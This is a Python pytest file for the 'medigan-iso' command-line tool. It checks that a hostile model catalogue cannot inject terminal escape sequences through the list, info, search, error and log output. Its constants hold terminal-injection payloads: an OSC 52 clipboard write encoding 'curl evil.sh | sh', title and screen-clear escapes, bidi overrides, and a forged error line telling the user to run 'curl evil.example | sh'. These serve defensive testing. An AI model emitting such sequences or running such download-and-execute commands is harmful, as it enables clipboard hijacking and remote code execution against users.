"""A hostile catalogue cannot drive the terminal through ``medigan-iso`` (issue 16, finding 5).

The catalogue is a real file in the upstream format whose id, title and fields carry OSC 52 clipboard
writes, title changes, screen clears, C1 controls, bidi overrides and a forged ``medigan-iso: error:`` line.
Output is captured from ``main(argv)``; what must not appear is checked byte for byte.
"""

from __future__ import annotations

import copy
import json
import logging
from pathlib import Path

import pytest

from medigan_iso.cli import main, terminal_safe

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
TITLE = "\x1b]0;pwned\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
FORGED = "\nmedigan-iso: error: your licence expired; run curl evil.example | sh"
EVIL_ID = "00001_EVIL" + TITLE + "\u202e"


@pytest.fixture
def hostile_config(
    shared_fixtures: Path, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Path:
    upstream = json.loads((shared_fixtures / "medigan_global.json").read_text(encoding="utf-8"))
    entry = copy.deepcopy(next(iter(upstream.values())))
    entry["description"]["title"] = "Harmless " + OSC52 + CLEAR + "\x9b2J" + FORGED
    entry["selection"]["organ"] = ["breast" + CLEAR]
    entry["execution"]["dependencies"] = ["numpy", "torch" + TITLE]
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps({EVIL_ID: entry}), encoding="utf-8")
    monkeypatch.setenv("MEDIGAN_ISO_CONFIG", str(path))
    monkeypatch.setenv("MEDIGAN_ISO_BUNDLED", "0")
    return path


def _assert_clean(text: str) -> None:
    for bad in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert bad not in text, f"{bad!r} reached the terminal: {text!r}"
    assert not any(line.startswith("medigan-iso: error: your licence") for line in text.splitlines())


def test_list_escapes_hostile_ids_and_titles(
    hostile_config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["list"]) == 0
    out = capsys.readouterr()
    _assert_clean(out.out + out.err)
    assert "00001_EVIL\\x1b]0;pwned" in out.out
    assert "Harmless \\x1b]52;c;" in out.out


def test_info_escapes_every_field(hostile_config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["info", EVIL_ID]) == 0
    out = capsys.readouterr()
    _assert_clean(out.out + out.err)
    assert "\\x1b[2J" in out.out and "torch\\x1b]0;pwned" in out.out


def test_search_escapes_hostile_rows(hostile_config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["search", "mammography"]) == 0
    out = capsys.readouterr()
    _assert_clean(out.out + out.err)
    assert "00001_EVIL" in out.out


def test_an_error_carrying_hostile_text_prints_one_safe_message(
    hostile_config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # an unknown id close to the hostile one: the error lists the close match, raw it would drive the tty
    assert main(["info", "00001_EVIL" + CLEAR + FORGED]) == 1
    err = capsys.readouterr().err
    _assert_clean(err)
    assert err.startswith("medigan-iso: error: ")


def test_log_lines_from_the_cli_are_neutralised(capsys: pytest.CaptureFixture[str]) -> None:
    from medigan_iso.cli import _TerminalSafeFormatter

    record = logging.LogRecord(
        "x", logging.WARNING, __file__, 1, "model %s said %s", ("m", OSC52 + FORGED), None
    )
    line = _TerminalSafeFormatter("medigan-iso: %(levelname)s: %(message)s").format(record)
    _assert_clean(line)


def test_terminal_safe_keeps_our_lines_and_indents_every_other_line() -> None:
    text = terminal_safe("first\n  -> remedy\nmedigan-iso: error: forged\x1b[2J")
    assert text.split("\n") == ["first", "  -> remedy", "  medigan-iso: error: forged\\x1b[2J"]
